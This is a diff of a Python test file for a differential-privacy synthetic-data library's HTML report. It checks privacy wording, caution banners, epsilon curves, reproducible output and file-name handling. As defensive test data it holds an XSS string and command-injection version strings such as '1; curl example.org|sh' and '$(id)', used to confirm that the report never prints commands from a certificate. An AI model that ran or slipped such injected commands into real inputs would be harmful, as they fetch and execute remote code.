@@ -1,6 +1,7 @@
 """The report of a release: its numbers are the certificate's, and nothing foreign gets in or out."""
 
 import base64
+import contextlib
 import hashlib
 import json
 import math
@@ -12,6 +13,7 @@ import sys
 import xml.etree.ElementTree as ET
 from dataclasses import replace
 from html.parser import HTMLParser
+from pathlib import Path
 
 import matplotlib as mpl
 import numpy as np
@@ -34,15 +36,24 @@ from dpppsynth import (
 )
 from dpppsynth.cli.program import _Program
 from dpppsynth.cli.report import report as command
+from dpppsynth.cli.sample import sample
 from dpppsynth.evaluation import k_function
 from dpppsynth.models import regular_triangulation
 from dpppsynth.plotting import surfaces
-from dpppsynth.privacy import PureDP
-from dpppsynth.privacy.certificate import content_hash
+from dpppsynth.privacy import ApproximateDP, PureDP, derive
+from dpppsynth.privacy.certificate import LARGE_DELTA, content_hash
 from dpppsynth.privacy.guarantee import Guarantee, guarantee_from_dict
 from dpppsynth.privacy.profiles import GaussianDP
-from dpppsynth.reporting import render_report, second_order, tables, write_report
+from dpppsynth.privacy.verify import verify
+from dpppsynth.release import folder as folder_module
+from dpppsynth.release import load_release
+from dpppsynth.reporting import distances, pictures, render_report, second_order, tables, write_report
+from dpppsynth.reporting import subject as subject_module
+from dpppsynth.reporting.cautions import exposure
+from dpppsynth.reporting.mechanisms import DESCRIPTIONS
+from dpppsynth.reporting.page import MARK, page
 from dpppsynth.reporting.promise import guesses, not_promised, promise
+from dpppsynth.reporting.subject import open_subject
 
 SQUARE = Window.rectangle(0, 0, 1000, 1000, "EPSG:27700")
 STREETS = LinearNetwork(
@@ -50,6 +61,9 @@ STREETS = LinearNetwork(
 )
 HOSTILE = "<script>alert(1)</script>"
 TEMPLATE = "{{ 7 * 7 }}\"' $x^$ & </td>"
+LEVELS = HOSTILE, TEMPLATE
+# A release by a theorem that holds on average over its model alone, drawn by NUTS, as it was stored.
+AVERAGED = Path(__file__).parent / "data" / "releases_v1" / "lgcp-kim-lim-3.8"
 
 
 def pattern(domain, n=60):
@@ -230,9 +244,10 @@ class TestContent:
         guarantee = guarantee_from_dict(certificate(released(name))["guarantee"])
         rows = [row for row in shown(name).cells if len(row) == 2 and re.fullmatch(r"[\d.]+( \(claimed\))?", row[0])]
         profile = rows[-len(tables.profile_rows(guarantee)) :]
-        assert [row[0] for row in profile if "claimed" in row[0]] == [f"{json.dumps(guarantee.epsilon())} (claimed)"]
+        assert ["claimed" in row[0] for row in profile].count(True) == 1
         for epsilon, delta in profile:
             if "claimed" in epsilon:
+                assert guarantee.epsilon() <= float(epsilon.split()[0]) <= guarantee.epsilon() * (1 + 1e-5)
                 assert float(delta) == guarantee.profile.at
             else:
                 least = guarantee.delta(float(epsilon))
@@ -284,18 +299,53 @@ def test_what_outsiders_wrote_stays_text(shown, released):
     ("name", "words"),
     [
         ("tents", ["no farther than 25 m away from there, along a path inside the area", "2.72 times", "73.2 of 100"]),
-        ("hidden", ["up to 3 points", "a certain person is in the data, or is not", "1.11 times", "52.5 of 100"]),
-        ("draw", ["up to 2 points", "give or take a probability of 1 in 1,000,000"]),
-        ("streets", ["no farther than 25 m away from there, along the streets"]),
-        ("kernel", ["This release holds 2 synthetic point patterns", "no released intensity"]),
-        ("levels", ["It does not hide the <b>kind of any point"]),
+        (
+            "hidden",
+            [
+                "made to every person with up to 3 points",
+                "a certain person is in the data, or is not",
+                "1.11 times",
+                "52.5 of 100",
+                "telling two places apart may cost twice as much: epsilon 0.2.",
+                "moves is removed and added",
+                "Epsilon for one single point (not a person), by distance: the same at all distances.",
+            ],
+        ),
+        (
+            "draw",
+            [
+                "made to every person with up to 2 points",
+                "give or take a probability of 1 in 1,000,000",
+                "or each of them lies elsewhere, no farther than 25 m away from its place in the first case",
+                "for several points of a person it may be better",
+                "for a person the bound may be larger than the curve. The epsilon of the claim is a person's within",
+                "about one single point (not a person), by distance, at delta 1e-06.",
+                "Epsilon for one single point (not a person) that moves along a path inside the area, rounded up",
+            ],
+        ),
+        ("streets", ["no farther than 25 m away from there, along the streets", "Ang's correction"]),
+        (
+            "kernel",
+            [
+                "This release holds 2 synthetic point patterns",
+                "Every point was replaced by a random number of synthetic points scattered at random around it.",
+                "no released intensity",
+                "2 synthetic patterns, mean and range",
+                "Ripley's isotropic edge correction",
+            ],
+        ),
+        ("levels", ["It does not hide the <b>kind of any point", *(f"the noisy numbers, <b>kind {x}" for x in LEVELS)]),
         ("kernel levels", ["Separately for each level of <b>kind: Every point was replaced"]),
     ],
 )
 def test_the_promise_in_plain_words(name, words, shown):
     visible = shown(name).visible
+    described = " ".join([visible, *(a["alt"] for t, a in shown(name).attributes if t == "img")])
     for each in words:
-        assert each in visible
+        assert each in described
+    assert "What several releases reveal adds up." in visible
+    assert "A point may still reflect people nearby" in visible
+    assert "(docs/inference.md)" in visible[visible.index("in the source repository") :]
     plain = visible[visible.index("The guarantee in plain words") : visible.index("The guarantee for an auditor")]
     assert not re.search("[α-ωΑ-Ω]", plain)  # noqa: RUF001 - Greek on purpose
     # Who is in the data is public under moves, and hidden under add/remove.
@@ -322,16 +372,119 @@ def test_how_often_a_guess_is_right():
 def test_what_is_merely_assumed_is_said():
     averaged = Guarantee(AlphaNeighbours(5.0), GaussianDP(1.0, 1e-6), "Theorem 3.8 (model-averaged)", ("a",))
     said = " ".join(promise(averaged, SQUARE, {"strata": [{"parameters": {"sampler": "nuts"}}]}))
-    assert "For the data at hand it may fail" in said
-    assert "assumed, not proved" in said
+    assert said.startswith("Attention: this is not differential privacy as it is usually meant.")
+    assert said.index("assumed, not proved") < said.index("The promise is made")
     assert "It says nothing about two places farther apart than 5 m." in not_promised(averaged, SQUARE, None)
+
+
+def test_what_holds_on_average_is_not_said_to_hold():
+    visible = Page(render_report(AVERAGED)).visible
+    caution = visible.index("Attention: it does not satisfy differential privacy")
+    assert caution < visible.index("What was released")
+    plain = visible[visible.index("The guarantee in plain words") :]
+    assert plain.index("Attention: this is not") < plain.index("The promise is made") < plain.index("On average over")
+    for overpromised in ("It protects", "whatever an attacker already knows", "proved mathematically"):
+        assert overpromised not in visible
+    assert "true on average over the model only" in visible[visible.index("Cite the release") :]
+
+
+def test_a_delta_that_may_publish_a_point_is_called_weak():
+    # One of n points with probability p: (0, p k / n) for a person's k points.
+    weak = Guarantee(ReplaceOne(), ApproximateDP(1.0, 1e-3), "t", ("a",))
+    said = promise(weak, SQUARE, {"n": 900})
+    assert "probability of up to 0.9." in said[0]
+    assert "this is a weak promise" in said[0]
+    assert not any("Attention" in each for each in promise(weak, SQUARE, {"n": 10}))
+    assert exposure(replace(weak, relation=ReplaceOne(3)), {"n": 900}) == pytest.approx(0.3)
+    parts = {"strata": [{"parameters": {"n": 300}}, {"parameters": {"n": 400}}]}
+    assert exposure(weak, parameters=parts) == pytest.approx(0.7)
+    assert exposure(replace(weak, relation=AddRemove()), {"n": None}) == 0
+    assert exposure(weak, {"n": 10**6}) == 1
+
+
+def test_a_point_that_is_known_to_be_there_is_protected_half_as_well():
+    # Two steps: (2 epsilon, (1 + e^epsilon) delta).
+    hidden = Guarantee(AddRemove(), GaussianDP(0.3, 1e-6), "t", ("a",))
+    epsilon = hidden.epsilon()
+    said = " ".join(not_promised(hidden, SQUARE, None))
+    price = re.search(r"cost twice as much: epsilon ([\d.e-]+) and delta ([\d.e-]+)\.", said)
+    assert [float(each) for each in price.groups()] == pytest.approx(
+        [2 * epsilon, 1e-6 * (1 + math.exp(epsilon))], rel=1e-3
+    )
+    assert float(price[1]) >= 2 * epsilon
+    assert "cost twice" not in " ".join(not_promised(replace(hidden, relation=ReplaceOne()), SQUARE, None))
+
+
+@pytest.mark.parametrize("cap", [1, 2])
+def test_where_a_curve_ends_it_is_not_called_level_everywhere(cap, monkeypatch):
+    relation = AlphaNeighbours(5.0, max_points_per_person=cap)
+    ending = Guarantee(relation, ApproximateDP(1.0, 1e-6), "t", ("a",))
+    assert "level up to the privacy radius of 5 m" in distances.alternative(ending, SQUARE)
+    assert "same at all distances" not in distances.alternative(ending, SQUARE)
+    level = replace(ending, profile=PureDP(1.0))
+    assert distances.alternative(level, SQUARE).endswith("the same at all distances.")
+    drawn = []
+    monkeypatch.setattr(pictures, "_picture", lambda ax, alt: drawn.append(ax))
+    for each in (ending, level):
+        pictures.epsilon_curve(each, SQUARE, "")
+    # A person's bound is a single point's as well; only pure privacy may be shared out.
+    assert [max(ax.lines[0].get_ydata()) for ax in drawn] == [1.0, 1.0 / cap]
+    assert [ax.get_ylabel() for ax in drawn] == (
+        ["ε\nat δ = 1e-06", "ε"] if cap == 1 else ["ε of one single point\nat δ = 1e-06", "ε of one single point"]
+    )
+
+
+def test_epsilons_are_never_quoted_below_what_is_proved():
+    curve = ((10.0, 1.23456), (20.00099, 2.00041))
+    guarantee = Guarantee(AlphaNeighbours(10.0, max_points_per_person=2), PureDP(2.46912), "t", ("a",), curve)
+    assert "2.001 at the far end" in distances.alternative(guarantee, SQUARE)
+    assert tables.distance_rows(guarantee) == [("10", "1.23456"), ("20", "2.00041")]
+    assert tables.distance_rows(replace(guarantee, by_distance=((19.9999, 2.0),))) == [("19.99", "2")]
+    assert "cannot be told apart" not in distances.explained(guarantee, SQUARE)
+
+
+class TestWhichPattern:
+    """The pictures are of what their captions say."""
+
+    def sources(self, page):
+        return {a["alt"]: a["src"] for tag, a in page.attributes if tag == "img"}
+
+    def test_of_patterns(self, shown, released):
+        patterns = open_subject(released("kernel")).patterns
+        sources = self.sources(shown("kernel"))
+        with pictures.house_style():
+            first = pictures.pattern_map(patterns[0], "").uri
+            second = pictures.pattern_map(patterns[1], "", small=True).uri
+        assert sources["Map of the first synthetic pattern."] == first
+        assert sources["Map of pattern 2."] == second
+
+    def test_of_levels(self, shown, released):
+        subject, sources = open_subject(released("levels")), self.sources(shown("levels"))
+        first = subject.patterns[0]
+        for level in LEVELS:
+            part = subject.of_level(first, level)
+            assert 0 < len(part) < len(first)
+            np.testing.assert_array_equal(part.xy, first.xy[first.marks["<b>kind"] == level])
+            with pictures.house_style():
+                assert sources[f"Map of the first synthetic pattern, <b>kind {level}."] == (
+                    pictures.pattern_map(part, "", small=True).uri
+                )
+        intensities = [uri for alt, uri in sources.items() if alt.startswith("Map of the released intensity")]
+        assert len(set(intensities)) == 2
+
+
+def test_every_mechanism_is_described_in_its_own_words():
+    assert DESCRIPTIONS.keys() == derive.RECOMPUTE.keys() - {derive.STRATA}
+    assert len(set(DESCRIPTIONS.values())) == len(DESCRIPTIONS)
 
 
 def test_a_seeded_release_is_called_not_private(shown):
     visible = shown("seeded").visible
     assert visible.index("NOT PRIVATE") < visible.index("What was released")
-    assert "This promise is not kept" in visible
+    assert "Do not rely on this promise" in visible
     assert "The promise follows" not in visible
+    assert "It protects" not in visible
+    assert "It would protect" not in visible
     assert "NOT PRIVATE" not in shown("tents").visible
 
 
@@ -347,6 +500,63 @@ def excused(cert):
     """A seeded run as an excuse for another promise."""
     smaller(cert)
     cert.update(seeded=True, warning="This run was seeded.", releasable=False)
+
+
+def test_a_large_delta_is_not_blamed_on_the_randomness(released, tmp_path):
+    """A certificate that disowns its release for another reason than a seed."""
+    folder = shutil.copytree(released("tents"), tmp_path / "public")
+    change(folder, lambda cert: cert.update(releasable=False, warning=LARGE_DELTA))
+    visible = Page(render_report(folder)).visible
+    assert "NOT PRIVATE" in visible
+    assert "the certificate says itself that this release must not be published" in visible
+    assert "that of the randomness" not in visible
+    assert "It would protect" not in visible
+
+
+@pytest.mark.parametrize(
+    ("version", "printed"),
+    [
+        ("1.2.0", True),
+        ("1.2.0rc1.post2.dev3+local.1", True),
+        ("1; curl example.org|sh", False),
+        ("1.0\ncurl example.org", False),
+        ("1.0\n", False),
+        ("$(id)", False),
+        (None, False),
+    ],
+)
+def test_no_command_is_taken_from_a_certificate(version, printed, monkeypatch, released):
+    subject = open_subject(released("tents"))
+    stated = {} if version is None else {"dpppsynth": version}
+    text = drawn_once(monkeypatch, replace(subject, certificate={**subject.certificate, "versions": stated}))
+    blocks = re.findall(r"<pre>(.*?)</pre>", text, re.DOTALL)
+    assert [re.sub("<.*?>", "", block).splitlines()[:2] for block in blocks] == [
+        ["dpppsynth verify .", "dpppsynth audit ."]
+    ]
+    assert "pip install" not in text
+    visible = Page(text).visible
+    assert (f"Install dpppsynth {version}, from where its authors publish it." in visible) == printed
+    assert ("Install dpppsynth, from where its authors publish it." in visible) != printed
+
+
+def drawn_once(monkeypatch, subject):
+    """A page without its pictures."""
+    blank = pictures.Picture("data:image/png;base64,", "a picture", 1, 1)
+    for name in ("pattern_map", "intensity_map", "epsilon_curve", "profile_curve", "gathering_curve"):
+        monkeypatch.setattr(pictures, name, lambda *_, **__: blank)
+    return page(subject)
+
+
+def test_half_characters_are_shown_by_their_numbers(monkeypatch, copy):
+    def broken(cert):
+        cert["versions"]["x\ud800"] = "\udfff"
+        cert.update(releasable=False, seeded=False, warning="no \ud812 way")
+
+    change(copy, broken)
+    text = drawn_once(monkeypatch, open_subject(copy))
+    assert "no \\ud812 way" in text
+    assert Page(text).value("Version of x\\ud800") == ["\\udfff"]
+    text.encode()
 
 
 class TestForgeries:
@@ -370,18 +580,18 @@ class TestForgeries:
 
 class TestFile:
     def test_same_bytes_wherever_and_whenever(self, copy, shown, tmp_path):
-        first = write_report(copy)
+        with mpl.rc_context({"font.size": 30, "svg.hashsalt": "other", "text.usetex": True}):
+            first = write_report(copy)
         assert first == copy / "report.html"
         assert len(first.read_bytes()) < 2_000_000
-        with mpl.rc_context({"font.size": 30, "svg.hashsalt": "other", "text.usetex": True}):
-            again = write_report(copy / "certificate.json", tmp_path / "new" / "page.HTML").read_bytes()
         code = "import sys, dpppsynth.reporting as r, dpppsynth.plotting.surfaces as s; s.PIXELS = 40; "
         code += "r.write_report(*sys.argv[1:])"
         outside = {"PYTHONHASHSEED": "12", "TZ": "Asia/Tokyo", "PYTHONPATH": os.pathsep.join(sys.path)}
-        arguments = [sys.executable, "-c", code, copy, tmp_path / "other.html"]
+        other = tmp_path / "new" / "page.HTML"
+        arguments = [sys.executable, "-c", code, copy / "certificate.json", other]
         subprocess.run(arguments, env=os.environ | outside, check=True, cwd=tmp_path)
-        assert first.read_bytes() == again == (tmp_path / "other.html").read_bytes()
-        assert str(tmp_path).encode() not in again
+        assert first.read_bytes() == other.read_bytes()
+        assert str(tmp_path).encode() not in other.read_bytes()
 
     def test_only_an_earlier_report_is_replaced(self, copy, tmp_path):
         other = tmp_path / "mine.html"
@@ -397,6 +607,67 @@ class TestFile:
             write_report(copy, tmp_path / "folder.html")
         with pytest.raises(InputError, match="choose another place"):
             write_report(copy, other / "below.html")
+
+    @pytest.mark.parametrize(
+        "out", ["a\0.html", "a" * 400 + ".html", "a" * 253 + ".html", 5, 3.5, b"x.html", "", "\ud800.html"]
+    )
+    def test_what_is_no_name_of_a_file_is_refused_in_words(self, out, copy, tmp_path, monkeypatch):
+        monkeypatch.chdir(tmp_path)
+        monkeypatch.setattr("dpppsynth.reporting.writing.render_report", lambda *_: "page")
+        with contextlib.suppress(InputError):
+            # The file system decides about names that are merely odd.
+            assert write_report(copy, out).name == out
+            assert out == "\ud800.html"
+
+    @pytest.mark.parametrize("wrong", ["typo", "synthetic_000.geojson", "typo/certificate.json", "a\0b", "a" * 400])
+    def test_a_wrong_path_is_not_taken_for_its_folder(self, wrong, copy):
+        for opening in (write_report, load_release):
+            with pytest.raises(InputError, match=r"release: |certificate: |path: "):
+                opening(copy / wrong)
+        assert not list(copy.rglob("*.html"))
+        with pytest.raises(InputError):
+            write_report(3)
+
+    def test_a_release_is_verified_once(self, copy, monkeypatch):
+        calls = []
+        for module in (subject_module, folder_module):
+            monkeypatch.setattr(module, "verify", lambda *a: calls.append(a) or verify(*a))
+        open_subject(copy)
+        assert len(calls) == 1
+
+    def test_large_patterns_are_not_all_read(self, copy, monkeypatch):
+        source, cert = copy / "synthetic_000.geojson", certificate(copy)
+        for k in range(1, 6):
+            shutil.copy(source, copy / f"synthetic_00{k}.geojson")
+            cert["files"][f"synthetic_00{k}.geojson"] = cert["files"][source.name]
+        change(copy, lambda old: old.update(cert))
+        every = open_subject(copy).patterns
+        assert len(every) == 6
+        monkeypatch.setattr(subject_module, "ENOUGH", 4 * len(every[0]) + 1)
+        assert len(open_subject(copy).patterns) == 5
+        monkeypatch.setattr(subject_module, "ENOUGH", 1)
+        said = []
+        assert len(open_subject(copy, said.append).patterns) == 4
+        assert said == ["checking the release", "reading synthetic patterns"]
+
+    def test_sampling_makes_a_report_anew(self, copy, monkeypatch):
+        app = typer.Typer(cls=_Program)
+        app.callback()(lambda: None)
+        app.command("sample")(sample)
+        monkeypatch.setattr("dpppsynth.reporting.writing.page", lambda subject, _say: f"{MARK}{subject.count}")
+        mine = copy / "report.html"
+        for text, then in [(None, None), ("mine", "mine"), (f"{MARK}1", f"{MARK}4")]:
+            if text is not None:
+                mine.write_text(text)
+            run = CliRunner().invoke(app, ["sample", str(copy)])
+            assert run.exit_code == 0, run.output
+            assert (mine.read_text() if mine.exists() else None) == then
+        refusal = InputError("out: no room")
+        monkeypatch.setattr("dpppsynth.reporting.write_report", lambda *_, **__: (_ for _ in ()).throw(refusal))
+        run = CliRunner().invoke(app, ["sample", str(copy)])
+        assert run.exit_code == 0
+        assert "out of date" in run.stderr
+        assert "no room" in run.stderr
 
     def test_from_the_command_line(self, copy, released, tmp_path):
         app = typer.Typer(cls=_Program)
